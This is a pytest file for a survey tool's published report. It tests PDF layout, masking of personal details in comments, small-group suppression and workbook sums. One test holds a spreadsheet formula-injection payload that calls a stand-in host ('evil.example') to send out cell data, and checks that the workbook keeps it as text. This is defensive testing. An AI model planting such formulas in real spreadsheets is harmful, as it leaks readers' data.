"""The published report (machikoe report): what a council member reads in the PDF, the workbook's
sums, masking of personal details, suppression of small groups, and the weights of the raw export.
Both databases; the PDF (laid out once, on SQLite) is checked with poppler (pdftotext, pdffonts, pdftoppm)."""
from __future__ import annotations

import html
import io
import re
import stat
import subprocess
import sys
from pathlib import Path

import numpy as np
import pytest
from openpyxl import load_workbook
from sqlalchemy import update

from analysis.indicators import Options, compute_for_survey
from analysis.publication import build_report, render
from analysis.publication.comments import mask
from analysis.publication.data import response_weights
from analysis.report import document, footnotes
from survey_app import responses
from survey_app.i18n.texts import InstrumentTexts
from survey_app.models import Answer
from tests.support.demo import bundled_margins
from tests.support.pdfcheck import pdf_fonts, pdf_pages_text, pdf_text, pdf_to_pngs, pdf_words_outside

# The subject is the report's words and layout, not storage: SQLite alone; every statement sent here reaches
# PostgreSQL in another test (tests/support/db.py, checked by tests/support/sql_reach.py).
pytestmark = pytest.mark.databases("sqlite")

ARTIFACTS = Path(__file__).parent / "artifacts" / "report"
PHONE, EMAIL = "011-382-5151", "hanako.yamada@example.jp"
SIDE_MARGIN_PT = 16 / 25.4 * 72  # survey_app/pdf.py's @page: 16 mm left and right
# Five Urdu-speaking respondents in one district: fewer than 10, so every cross table hides them.
FOREIGN = {"kurashiyasui": 2, "kosodate": 3, "age_band": 1, "sex": 2, "district": 3, "nationality": 2,
           "_locale": "ur"}


@pytest.fixture
def surveyed(session, instrument, load_demo):
    load_demo(instrument, 300, seed=5)
    # Recode the demo's few foreign residents to Japanese: only the five rows below form the small group.
    session.execute(update(Answer).where(Answer.question_id == "nationality").values(code=1))
    comment = {"kurashiyasui": 1, "age_band": 3, "sex": 1, "district": 1, "nationality": 1,
               "comment": f"除雪について佐藤さんに相談しました。電話 {PHONE}、メール {EMAIL}、〒067-8674 まで。"}
    responses.bulk_complete(session, instrument, [comment], channel="web", source="invited")
    responses.bulk_complete(session, instrument, [FOREIGN] * 5, channel="telegram", source="invited")
    return instrument


def _plain(text: str) -> str:
    return re.sub(r"\s+", "", text)


def test_masking_of_personal_details():
    assert mask(f"電話 {PHONE} か ０９０－１２３４－５６７８ まで") == "電話 ＊＊＊-＊＊＊＊-＊＊＊＊ か ＊＊＊-＊＊＊＊-＊＊＊＊ まで"
    assert mask(f"連絡は {EMAIL} へ") == "連絡は ＊＊＊@＊＊＊ へ"
    assert mask("〒067-8674 江別市") == "〒＊＊＊-＊＊＊＊ 江別市"
    assert mask("市役所の田中さんと佐藤様に感謝") == "市役所の〇〇さんと〇〇様に感謝"
    assert mask("皆さん、お客様、子どもさん") == "皆さん、お客様、子どもさん"  # nobody's name
    assert mask("Mr. Nguyen helped me") == "Mr 〇〇 helped me"
    assert mask("+81 11 382 5151") == "＊＊＊-＊＊＊＊-＊＊＊＊"
    assert mask("人口は119,000人、2025年度") == "人口は119,000人、2025年度"  # numbers that are not contacts
    # as a Japanese IME types them, and dotted
    assert mask("ｔａｒｏ＠ｅｘａｍｐｌｅ．ｃｏｍ へ") == "＊＊＊@＊＊＊ へ"
    assert mask("090.1234.5678 まで") == "＊＊＊-＊＊＊＊-＊＊＊＊ まで"
    assert mask("2025.11.30に、3.5時間") == "2025.11.30に、3.5時間"


def _html_text(report) -> str:
    page = render(report, "html").decode("utf-8")
    page = re.sub(r"<(style|script)\b.*?</\1>", "", page, flags=re.S)
    return _plain(html.unescape(re.sub(r"<[^>]+>", "", page)))


def _has_every_section_indicator_and_closed_question(text: str, instrument) -> None:
    for heading in ("単純集計", "クロス集計", "自由意見", "調査の概要", "調査方法", "目次"):
        assert heading in text
    texts = InstrumentTexts(instrument, "ja")
    for indicator in instrument.indicators:
        assert _plain(texts.indicator(indicator)) in text
    for question in instrument.questions:
        if question.type in ("single", "scale", "multi"):
            assert _plain(texts.question(question)) in text, question.id
    assert PHONE not in text and EMAIL not in text and "佐藤さん" not in text
    assert "「sex」" not in text and "「性別」に回答していません" in text  # notices name questions as readers do
    assert "除雪について〇〇さんに相談しました。" in text and "＊＊＊-＊＊＊＊-＊＊＊＊" in text


@pytest.mark.databases("sqlite", "postgresql")
def test_every_section_indicator_and_closed_question_on_each_database(session, surveyed):
    """What the report says, from either database (the PDF is the same page laid out: below)."""
    _has_every_section_indicator_and_closed_question(_html_text(build_report(session, surveyed, "rake", "ja")),
                                                     surveyed)
    english = _html_text(build_report(session, surveyed, "none", "en"))
    assert all(h in english for h in ("Simpletabulation", "Crosstabulation", "Freecomments", "Surveymethods"))


# The PDF is the HTML above laid out by WeasyPrint, whatever database the report was read from:
# its own checks (text as printed, page numbers, fonts, page images) run once, on SQLite.
@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)
def test_pdf_has_every_section_indicator_and_closed_question(session, surveyed):
    report = build_report(session, surveyed, "rake", "ja")
    pdf = render(report, "pdf")
    pages = pdf_pages_text(pdf)  # poppler reads this PDF in about a second: once for text and pages
    _has_every_section_indicator_and_closed_question(_plain("".join(pages)), surveyed)
    assert re.search(rf"\b2\s*/\s*{len(pages)}\b", pages[1])  # page numbers "n / N"
    toc = _plain(pages[1])
    crosses_page = next(i for i, p in enumerate(pages, start=1) if "4クロス集計" in _plain(p) and i > 2)
    assert f"4クロス集計{crosses_page}" in toc  # the contents give the real page
    assert all(f["embedded"] == "yes" for f in pdf_fonts(pdf))
    assert pdf_words_outside(pdf, SIDE_MARGIN_PT) == []  # no label runs off its chart or the page
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    pngs = pdf_to_pngs(pdf, ARTIFACTS, dpi=50)
    assert len(pngs) == len(pages)
    for png in pngs[2:4] + pngs[5:]:  # keep the cover, contents and the indicators page to look at
        png.unlink()


@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)  # the PDF: once (see above)
def test_english_report_speaks_english(session, surveyed):
    pasted = "https://www.example.com/" + "longpath" * 20  # a comment printed as written: no break of its own
    responses.bulk_complete(session, surveyed, [{**FOREIGN, "_locale": "en", "comment": pasted}], channel="web")
    pdf = render(build_report(session, surveyed, "none", "en"), "pdf")
    # English answers are long: "Places that look after children, such as daycare centers and
    # kindergartens" ran off the left of its bar chart (clipped: "hat look after" at x -4 pt), and
    # the pasted address off the right of the page (to x 600 pt of 595)
    assert pdf_words_outside(pdf, SIDE_MARGIN_PT) == []
    text = _plain(pdf_text(pdf))
    assert pasted in text  # broken across lines, every character kept
    for heading in ("Simpletabulation", "Crosstabulation", "Freecomments", "Surveymethods"):
        assert heading in text
    assert "Noweighting" in text


def test_the_weighting_note_describes_the_invited_sample_alone(session, surveyed):
    """The open responses weigh nothing in the figures: the weights' spread and Kish's effective
    size are the invited sample's, out of the invited responses."""
    responses.bulk_complete(session, surveyed, [FOREIGN] * 6, channel="web")  # open: no code
    report = build_report(session, surveyed, "rake", "en")
    assert report.open == 6 and report.invited > 0
    weighting = dict(report.methods)["Weighting"]
    low, high = (float(v) for v in re.search(r"range from ([\d.]+) to ([\d.]+)", weighting).groups())
    assert 0 < low <= 1 <= high
    assert re.search(rf"effective sample size is [\d,]+ of {report.invited:,}\.", weighting), weighting


def test_a_report_weighted_to_the_example_margins_says_so(session, surveyed):
    bundled_margins(session, surveyed, illustrative=True)  # what machikoe setup loads
    raked = html.unescape(render(build_report(session, surveyed, "rake", "ja"), "html").decode("utf-8"))
    assert "例示用（実際の住民基本台帳ではありません）" in raked
    unweighted = html.unescape(render(build_report(session, surveyed, "none", "ja"), "html").decode("utf-8"))
    assert "例示用" not in unweighted


def test_the_methods_name_indicators_and_questions_not_their_ids(session, surveyed):
    report = build_report(session, surveyed, "rake", "ja")
    notices = " ".join(text for heading, text in report.methods if heading == "注意")
    assert "[baseline_without_se]" in notices  # the strategy's baselines publish no standard error
    assert "「living」" not in notices and "「江別市が暮らしやすいと思う市民割合」" in notices, notices


def test_a_report_of_open_responses_alone_is_built_and_says_there_is_no_figure(session, instrument):
    """Early in fieldwork only open responses may be in: the report is still made (it was a
    ValueError, a 500 in the console), states no weight spread and gives the notice's reason."""
    responses.bulk_complete(session, instrument, [{"kurashiyasui": 1, "age_band": 2, "sex": 1, "district": 3}] * 10,
                            channel="paper")
    report = build_report(session, instrument, "none", "en")
    notes = dict(report.methods)
    assert (report.invited, report.open) == (0, 10)
    assert "Kish" not in notes["Weighting"] and "nan" not in str(report.methods)
    # paper forms without a code are open responses too, not "the open link"
    assert "0 from residents invited by letter" in notes["Sample"]
    assert "10 open responses without an invitation code (open link, chat or paper form" in notes["Sample"]
    notices = [text for heading, text in report.methods if heading == "Notice"]
    assert any(text.startswith("No invited (randomly sampled) resident has responded yet") for text in notices)
    page = html.unescape(render(report, "html").decode("utf-8"))
    assert "No invited (randomly sampled) resident has responded yet" in page
    assert "every response is an open one (open link, chat or paper form without a code)" in page
    assert "Open link" not in page  # a paper form without a code did not come through a link


@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)  # the template's words: one database is enough
def test_invited_responses_without_letters_are_not_called_open(session, surveyed):
    """Demo data (or letters made outside Machikoe): invited responses but no letter recorded. The
    overview said every response came through the open link, beside a table of invited ones."""
    responses.bulk_complete(session, surveyed, [FOREIGN] * 3, channel="web")  # open: no code
    responses.bulk_complete(session, surveyed, [FOREIGN] * 3, channel="telegram")
    report = build_report(session, surveyed, "rake", "en")
    assert report.letters == 0 and report.invited == 306
    page = html.unescape(render(report, "html").decode("utf-8"))
    assert "yet 306 responses are marked as invited" in page and "no response rate can be given" in page
    assert "every response is an open one" not in page
    assert "306 invited and 6 open complete responses (open: without an invitation code)" in page
    # the open rows (a web form and Telegram chats without a code) are not called "open link"
    assert "Open, no code (self-selected)" in page and "Open link" not in page
    # a group of hundreds hidden so that a small one cannot be worked out is not "fewer than 10"
    assert "or is hidden with such a group so that its figures cannot be worked out from the total" in page


def test_small_groups_are_suppressed_in_every_cross_table(session, surveyed):
    report = build_report(session, surveyed, "rake", "ja")
    by_nationality = [c for c in report.crosses if c.by == "nationality"]
    # 日本以外 (5) is hidden, and 日本 too: otherwise 全体 − 日本 would give it away. A table of dashes
    # alone is left out and counted in one sentence; the tables that stay are those of the questions
    # nobody foreign was asked (show_if), where 日本以外 has no one to protect.
    closed = [t for t in report.frequencies if t.question.kind.has_choices and t.question.id != "nationality"]
    withheld = len(closed) - len(by_nationality)
    assert withheld > 0 and by_nationality
    for cross in by_nationality:
        assert cross.table.question.show_if is not None
        total, *groups = cross.rows
        assert [g.label for g in groups] == ["日本", "日本以外"] and total.n is not None and groups[0].n is not None
        assert groups[1].n is None and all(v is None for v in groups[1].cells) and groups[1].flag == "suppressed"
    note = f"「国籍」別の表{withheld}件は掲載していません。どの区分も回答者が10人未満であるか、そうした区分と合わせて非表示にしているためです。"
    assert note in report.crosses_withheld
    page = render(report, "html").decode("utf-8")
    assert note in page and "小さい区分から順に非表示" in page  # the rule itself is said in 調査方法
    book = load_workbook(io.BytesIO(render(report, "xlsx")))
    assert not any(name.startswith("問1×") and name.endswith("×国籍") for name in book.sheetnames)
    assert [note] == [row[1] for row in book["調査方法"].iter_rows(values_only=True) if row[1] == note]
    english = build_report(session, surveyed, "none", "en")
    assert (f"Not shown: {withheld} tables by Nationality, in which every group has fewer than 10 respondents "
            "or is hidden with such a group.") in english.crosses_withheld


def test_a_group_is_sized_by_the_answers_that_count_as_every_other_view_sizes_it(session, surveyed):
    """日本以外 grows to 10 respondents, one of whom answers 問1 「わからない」: 9 answers count for
    問1's indicator, which the dashboard, exports and API hide for that group. Printed by its 10
    respondents, the row's answer split would give the hidden figure back — so it is hidden here too,
    while a question all 10 answered (sex) still shows the group."""
    more = [{**FOREIGN, "kurashiyasui": 1}] * 4 + [{**FOREIGN, "kurashiyasui": 9}]
    responses.bulk_complete(session, surveyed, more, channel="web", source="invited")
    report = build_report(session, surveyed, "rake", "ja")
    crosses = {c.table.question.id: c for c in report.crosses if c.by == "nationality"}
    assert "kurashiyasui" not in crosses  # every group hidden: withheld, counted in one sentence
    foreign = crosses["sex"].rows[2]
    assert foreign.label == "日本以外" and foreign.n == 10 and foreign.flag != "suppressed"


def test_respondents_who_left_the_breakdown_blank_are_protected_in_the_cross_tables(session, surveyed):
    """Three residents skipped 国籍 (in 全体, in no row): 全体 − 日本 − 日本以外 gave their answers
    back. They count as a group that is never printed, so 日本以外 (10) is hidden with them."""
    blank = {k: v for k, v in FOREIGN.items() if k != "nationality"} | {"kurashiyasui": 4}  # they disagree
    responses.bulk_complete(session, surveyed, [FOREIGN] * 5 + [blank] * 3, channel="web", source="invited")
    report = build_report(session, surveyed, "none", "ja")
    cross = next(c for c in report.crosses if c.by == "nationality" and c.table.question.id == "kurashiyasui")
    total, japanese, foreign = cross.rows
    assert total.n - japanese.n == 13 and foreign.label == "日本以外" and foreign.flag == "suppressed"
    assert foreign.n is None and all(v is None for v in foreign.cells)


def test_cross_tables_by_the_language_answered_in(session, surveyed):
    # Five in Urdu beside ~300 in Japanese: Urdu hidden, and with it every other group, or the total
    # would give it away — so no table × language is printed, and one sentence says so.
    report = build_report(session, surveyed, "rake", "ja")
    closed = {c.table.question.id for c in report.crosses}
    assert [c for c in report.crosses if c.by == "locale"] == []
    assert (f"「回答した言語」別の表{len(closed)}件は掲載していません。どの区分も回答者が10人未満であるか、"
            "そうした区分と合わせて非表示にしているためです。") in report.crosses_withheld
    # Twelve more in English and in Vietnamese: Urdu and one of them are hidden, the rest shown.
    other = {**FOREIGN, "district": 1, "nationality": 1}
    responses.bulk_complete(session, surveyed, [{**other, "_locale": "en"}] * 12 + [{**other, "_locale": "vi"}] * 12,
                            channel="web", source="invited")
    report = build_report(session, surveyed, "rake", "ja")
    by_language = [c for c in report.crosses if c.by == "locale"]
    # one per closed question, but those the new respondents were not asked (show_if), counted instead
    left_out = [n for n in (re.search(r"「回答した言語」別の表(\d+)件", note) for note in report.crosses_withheld) if n]
    assert len(by_language) + sum(int(n.group(1)) for n in left_out) == len(closed) and by_language
    cross = by_language[0]
    assert cross.by_text == "回答した言語"
    total, *groups = cross.rows
    labels = [g.label for g in groups]
    assert labels[0] == "日本語" and "اردو" in labels  # each language named in itself
    urdu = groups[labels.index("اردو")]
    assert urdu.n is None and urdu.flag == "suppressed"  # five respondents
    hidden = [g for g in groups if g.n is None]
    shown = [g for g in groups if g.n is not None]
    assert shown[0].label == "日本語" and len(shown) >= 2  # Japanese and one of the two twelves
    # What the total leaves for the hidden languages is at least the threshold, so Urdu is not given away.
    assert total.n - sum(g.n for g in shown) >= 10 and len(hidden) >= 2
    assert "回答した言語" in render(report, "html").decode("utf-8")


def test_workbook_sheets_add_up(session, surveyed):
    report = build_report(session, surveyed, "rake", "ja")
    book = load_workbook(io.BytesIO(render(report, "xlsx")))
    indicators = book["指標"]
    change = [r[9] for r in indicators.iter_rows(min_row=3, max_row=2 + len(report.indicators.figures))]
    assert any(c.value is not None for c in change)  # a change from the baseline, shown as -3.6 not -3.6484…
    assert all(c.number_format == "+0.0;-0.0;0.0" for c in change if c.value is not None)
    single = {f"問{t.number}" for t in report.frequencies if t.question.type == "single"}
    assert single <= set(book.sheetnames)
    for name in single:
        sheet = book[name]
        assert sheet.freeze_panes == "B3"
        rows = list(sheet.iter_rows(min_row=3, values_only=True))
        *answers, base = [r for r in rows if isinstance(r[1], int)]
        assert sum(r[1] for r in answers) == base[1]
        assert sum(r[2] for r in answers) == pytest.approx(1.0) and sum(r[3] for r in answers) == pytest.approx(1.0)
        assert sheet.cell(3, 3).number_format == "0.0%"
    for name in (n for n in book.sheetnames if "×" in n and n.split("×")[0] in single):
        rows = [r for r in book[name].iter_rows(min_row=3, values_only=True) if r[0]]
        total, groups = rows[0], rows[1:]
        shown = [g for g in groups if g[1] is not None]
        if len(shown) == len(groups):
            assert sum(g[1] for g in groups) == total[1], name
        for row in [total, *shown]:
            assert sum(v for v in row[2:] if v is not None) == pytest.approx(1.0), name


def test_a_reason_asked_only_of_the_dissatisfied_is_not_printed_in_a_small_language(session, surveyed):
    """The only Urdu-speaking residents' reason for disagreeing on childcare (asked only after 3 or 4)
    was printed under 「اردو (1)」 while every cross table by language was withheld: it told who
    answered what. Such comments are withheld and counted; a general comment stays."""
    reason = {**FOREIGN, "kosodate": 4, "kosodate_reason": "بچوں کے لیے پارک کم ہیں", "comment": "شکریہ"}
    responses.bulk_complete(session, surveyed, [reason], channel="web", source="invited")
    report = build_report(session, surveyed, "none", "ja")
    assert report.comments_withheld == 1 and report.small_languages
    page = html.unescape(render(report, "html").decode("utf-8"))
    assert "بچوں کے لیے پارک کم ہیں" not in page and "شکریہ" in page
    # the rule, never the number: "4 withheld" beside 4 Urdu speakers told they had all disagreed
    rule = "特定の回答をした人にだけ尋ねる質問への自由意見は、その言語で回答した人が10人未満の場合は掲載していません。"
    assert rule in page and "1件" not in page.split("5　自由意見")[-1].split(rule)[0][-40:]
    book = load_workbook(io.BytesIO(render(report, "xlsx")))
    sheet = [str(c) for row in book["自由意見"].iter_rows(values_only=True) for c in row if c]
    assert "بچوں کے لیے پارک کم ہیں" not in sheet and rule in " ".join(sheet)


def test_a_question_asked_of_a_handful_is_not_tabulated_and_a_small_headline_is_marked(session, instrument):
    """At 12 replies a question asked of the 3 parents printed their answers one by one (100.0 % / 0.0 %),
    and the headline of n = 12 had no ※ while every group under 30 did."""
    rows = [{"kurashiyasui": 1 + i % 4, "age_band": 2, "sex": 1, "district": 1, "has_children": 2}
            for i in range(9)] + [{"kurashiyasui": 1, "age_band": 2, "sex": 1, "district": 1, "has_children": 1,
                                   "kosodate_needs": [1, 3]}] * 3
    responses.bulk_complete(session, instrument, rows, channel="paper", source="invited")
    report = build_report(session, instrument, "none", "ja")
    needs = next(t for t in report.frequencies if t.question.id == "kosodate_needs")
    assert needs.suppressed and needs.rows == () and needs.base_n == 3
    page = html.unescape(render(report, "html").decode("utf-8"))
    assert "掲載していません：この質問を尋ねた回答者が10人未満" in page
    assert "12 ※" in _plain(page) or "12※" in _plain(page)
    assert "※ 回答者が30人未満：解釈に注意" in page
    book = load_workbook(io.BytesIO(render(report, "xlsx")))
    cells = [c for row in book["指標"].iter_rows(values_only=True) for c in row if isinstance(c, str)]
    assert any(c.endswith(" ※") for c in cells) and "※ 回答者が30人未満：解釈に注意" in cells


def test_weights_that_fell_back_to_the_design_are_described_as_they_are(session, instrument, load_demo):
    """12 replies raked to the margins fall back to design weights, all equal without a recorded design: the
    methods said each respondent "stands for the residents of their sampling stratum", and the composition
    table that the weighted column "should match" the population (70歳以上: 50.0 against 28.7)."""
    bundled_margins(session, instrument)
    rows = [{"kurashiyasui": 1 + i % 4, "age_band": 1 + i % 6, "sex": 1 + i % 2, "district": 1 + i % 3}
            for i in range(12)]
    responses.bulk_complete(session, instrument, rows, channel="paper", source="invited")
    report = build_report(session, instrument, "rake", "ja")
    weighting = dict(report.methods)["重み付け"]
    assert weighting.startswith("抽出ウェイト：この案内状には抽出設計が記録されていないため") and "抽出層の住民を代表" not in weighting
    assert not any(c.weighted_to for c in report.composition)
    assert "補正後の列は母集団の列と一致しません" in html.unescape(render(report, "html").decode("utf-8"))


def test_open_responses_are_shown_beside_the_figures_as_the_notice_says(session, surveyed):
    """The notice said the open responses were "shown separately without an interval"; they were not."""
    responses.bulk_complete(session, surveyed, [{**FOREIGN, "kurashiyasui": 4}] * 12, channel="web")  # open
    report = build_report(session, surveyed, "rake", "ja")
    assert report.indicators.open.n_respondents == 12
    page = html.unescape(render(report, "html").decode("utf-8"))
    section = page.split("公開回答（案内状のコードなし）</h3>")[1].split("</table>")[0]
    assert "12件は公開リンク" in section and "割合（ウェイトなし）" in section and "信頼区間" in section
    living = next(f for f in report.indicators.figures if f.id == "living")
    assert f"{living.title}</th><td class=\"num\">0.0</td>" in section  # all twelve disagreed
    book = load_workbook(io.BytesIO(render(report, "xlsx")))
    sheet = next(book[name] for name in book.sheetnames if name.startswith("公開回答"))
    assert (living.title, 0.0, 12) in list(sheet.iter_rows(min_row=3, values_only=True))


def test_a_report_of_a_survey_whose_letters_were_made_here_renders(session, surveyed, secret):
    """Letters recorded (a response rate by stratum to print), open responses beside: the page failed
    with 'open' is undefined — a note placed in the rate table's block by mistake."""
    from survey_app.invitations import create_invitations

    create_invitations(session, surveyed, secret, [{"district": 1 + i % 3} for i in range(600)],
                       stratify_by=("district",), stratum_sizes={"1": 32300, "2": 45500, "3": 23200})
    responses.bulk_complete(session, surveyed, [FOREIGN] * 3, channel="web")  # open, too few: withheld
    report = build_report(session, surveyed, "rake", "ja")
    assert report.rates and report.indicators.open.n_respondents == 3
    page = html.unescape(render(report, "html").decode("utf-8"))
    rates = page.split("層別の回収率")[1].split("</table>")[0]
    assert "大麻地区" in rates and "非表示" not in rates
    section = page.split("公開回答（案内状のコードなし）</h3>")[1]
    assert "– : " in section.split("</table>")[1][:200]  # the dash explained below the open table


def test_hidden_groups_that_all_agree_are_protected_in_the_cross_tables_as_on_the_dashboard(session, instrument):
    """18〜29 (answers 1, 2, 1) and 30〜39 (six 1s, six 2s) hidden: safe answer by answer, yet all 15 agree
    (1 or 2) — and 全体 minus the printed rows said so. The dashboard hid 40〜49 as well; the report did not."""
    mixed = [1, 2, 3, 4, 9]
    rows = ([{"kurashiyasui": k, "age_band": 1} for k in (1, 2, 1)]
            + [{"kurashiyasui": 1 + i % 2, "age_band": 2} for i in range(12)]
            + [{"kurashiyasui": mixed[i % 5], "age_band": band} for band, n in ((3, 15), (4, 25), (5, 25), (6, 25))
               for i in range(n)])
    responses.bulk_complete(session, instrument, [{**r, "sex": 1, "district": 1} for r in rows], channel="paper",
                            source="invited")
    report = build_report(session, instrument, "none", "ja")
    cross = next(c for c in report.crosses if c.by == "age_band" and c.table.question.id == "kurashiyasui")
    hidden = [row.label for row in cross.rows[1:] if row.flag == "suppressed"]
    assert hidden[:3] == ["18〜29歳", "30〜39歳", "40〜49歳"]


def test_a_comment_that_looks_like_a_formula_stays_text_in_the_workbook(session, surveyed):
    """A resident's 「=HYPERLINK(…)」 became a live formula in the 自由意見 sheet (openpyxl's default)."""
    typed = ['=HYPERLINK("https://evil.example/?c="&D2,"詳しくはこちら")', "=1+2\x01", "@SUM(A1)"]
    responses.bulk_complete(session, surveyed, [{**FOREIGN, "_locale": "ja", "comment": t} for t in typed],
                            channel="web")
    book = load_workbook(io.BytesIO(render(build_report(session, surveyed, "none", "ja"), "xlsx")))
    cells = [cell for row in book["自由意見"].iter_rows(min_row=3) for cell in row if isinstance(cell.value, str)]
    found = {cell.value: cell.data_type for cell in cells if cell.value.startswith(("=", "@"))}
    assert found == {typed[0]: "s", "=1+2": "s", "@SUM(A1)": "s"}  # text, and the control character dropped
    assert all(cell.data_type != "f" for sheet in book for row in sheet.iter_rows() for cell in row)


def test_raw_export_weights_reproduce_the_headline_figure(session, surveyed):
    from analysis.frame import frame_from_database

    weights = response_weights(session, surveyed, "rake")
    report = build_report(session, surveyed, "rake", "ja")
    frame = frame_from_database(session, surveyed)
    invited = frame.invited_mask()
    assert all((w is None) == (not inv) for w, inv in zip(weights.by_response.values(), invited, strict=True))
    w = np.array([w or 0.0 for w in weights.by_response.values()])  # open responses: no weight in the figures
    values = frame.values("kurashiyasui")
    base = np.isin(values, [1, 2, 3, 4])
    positive = np.isin(values, [1, 2])
    figure = next(f for f in report.indicators.figures if f.id == "living")
    assert weights.method == "rake"
    assert 100 * w[positive].sum() / w[base].sum() == pytest.approx(figure.estimate, rel=1e-9)


def test_cli_writes_each_format_and_bad_flags_are_one_line(cli, session, surveyed, tmp_path):
    out = tmp_path / "report.xlsx"
    result = cli("report", "--survey", surveyed.id, "--format", "xlsx", "--output", str(out))
    assert result.exit_code == 0 and out.read_bytes().startswith(b"PK"), result.output
    assert stat.S_IMODE(out.stat().st_mode) == 0o600  # every free comment is in it: the owner's until published
    for args, expected in [(("--format", "docx"), "'--format'"), (("--weighting", "magic"), "'--weighting'"),
                           (("--lang", "fr"), "'--lang'")]:
        result = cli("report", "--survey", surveyed.id, "--format", "pdf", "--output", str(out), *args)
        lines = result.output.strip().splitlines()
        assert result.exit_code != 0 and len(lines) == 1 and expected in lines[0], result.output
    result = cli("report", "--survey", "nowhere-1999", "--format", "pdf", "--output", str(out))
    assert result.exit_code == 1 and "unknown survey 'nowhere-1999'" in result.output
    assert len(result.output.strip().splitlines()) == 1


def test_cli_refuses_weighting_without_margins_in_one_line(cli, session, instrument, tmp_path):
    responses.bulk_complete(session, instrument, [FOREIGN] * 10, channel="web")
    result = cli("report", "--survey", instrument.id, "--format", "html", "--output", str(tmp_path / "r.html"))
    assert result.exit_code == 1 and "has no population margins" in result.output
    assert len(result.output.strip().splitlines()) == 1


def test_a_file_the_cli_cannot_write_is_one_line_naming_it(cli, session, instrument):
    """It was 'Error: FileNotFoundError: [Errno 2] …' — the exception's class, for a resident of a city hall."""
    responses.bulk_complete(session, instrument, [FOREIGN] * 10, channel="web")
    result = cli("report", "--survey", instrument.id, "--format", "html", "--weighting", "none",
                 "--output", "/proc/report.html")  # /proc refuses a new file, even to root
    assert result.exit_code == 1 and result.output.startswith("Error: cannot use '/proc/report.html': ")
    assert "FileNotFoundError" not in result.output and len(result.output.strip().splitlines()) == 1


def test_the_report_package_imports_no_flask():
    """analysis.publication is shared by the CLI and the web: it must not pull Flask in."""
    code = ("import sys, analysis.publication, analysis.publication.layout, analysis.publication.xlsx; "
            "print(sorted(m for m in sys.modules if m.split('.')[0] in ('flask', 'bot')))")
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True).stdout
    assert out.strip() == "[]"


def test_the_report_prints_the_targets_staff_set(session, surveyed):
    from survey_app import indicator_values

    indicator_values.set_value(session, surveyed, indicator_values.parse_assignment("living=82.5@2029"), "analyst")
    report = build_report(session, surveyed, "rake", "ja")  # the YAML's instrument, as the CLI passes it
    living = next(f for f in report.indicators.figures if f.id == "living")
    assert (living.target, living.target_year) == (82.5, 2029)
    # a target the city has not set reads 未設定, as on the dashboard — not 「– 令和11年度」
    page = html.unescape(render(report, "html").decode("utf-8"))
    childcare = next(f for f in report.indicators.figures if f.id == "childcare")
    assert childcare.target is None and f"{childcare.title}</th>" in page
    row = page.split(f"{childcare.title}</th>")[1].split("</tr>")[0]
    assert "未設定" in row and "令和11年度" not in row


@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)  # the analysis, not the database
@pytest.mark.parametrize(("replies", "method", "margins", "notice"), [
    (60, "Raking", "Age group", "sparse_margin_dropped"),              # district and sex too sparse
    # age merged into one cell: no raking at all; and the demo records no design, so every weight is equal
    (25, "Design weights: no sampling design is recorded", None, "sparse_margin_merged_away"),
    (10, "Design weights: no sampling design is recorded", None, "weighting_fallback"),
])
def test_the_methods_name_the_margins_and_method_the_weights_were_made_by(session, instrument, load_demo,
                                                                          replies, method, margins, notice):
    """Early in fieldwork sparse margins are left out of the raking, a margin whose categories all
    had to be merged shapes nothing, and with fewer replies the weights fall back to the design's:
    the 調査方法 once named every margin loaded and raking whatever was done ("raked to age" with
    every weight equal). They, the footnotes and the JSON name what was done."""
    load_demo(instrument, replies, seed=9)
    report = build_report(session, instrument, "rake", "en")
    weighting = dict(report.methods)["Weighting"]
    assert weighting.startswith(method), weighting
    if margins:
        assert re.search(r"population margins (.*?), to a relative error", weighting).group(1) == margins
    notices = " ".join(text for heading, text in report.methods if heading == "Notice")
    assert f"[{notice}]" in notices
    assert "Sex" in html.unescape(render(report, "html").decode("utf-8"))  # the population row: every margin loaded
    result = compute_for_survey(session, instrument, Options(weighting="rake", lang="en", strict=False))
    assert document(result, "en")["weighting"] == "rake"
    assert document(result, "en")["weighting_applied"] == ("rake" if margins else "design")
    assert footnotes(result, "en")[2].startswith("Weighted by raking" if margins else "Design weights")
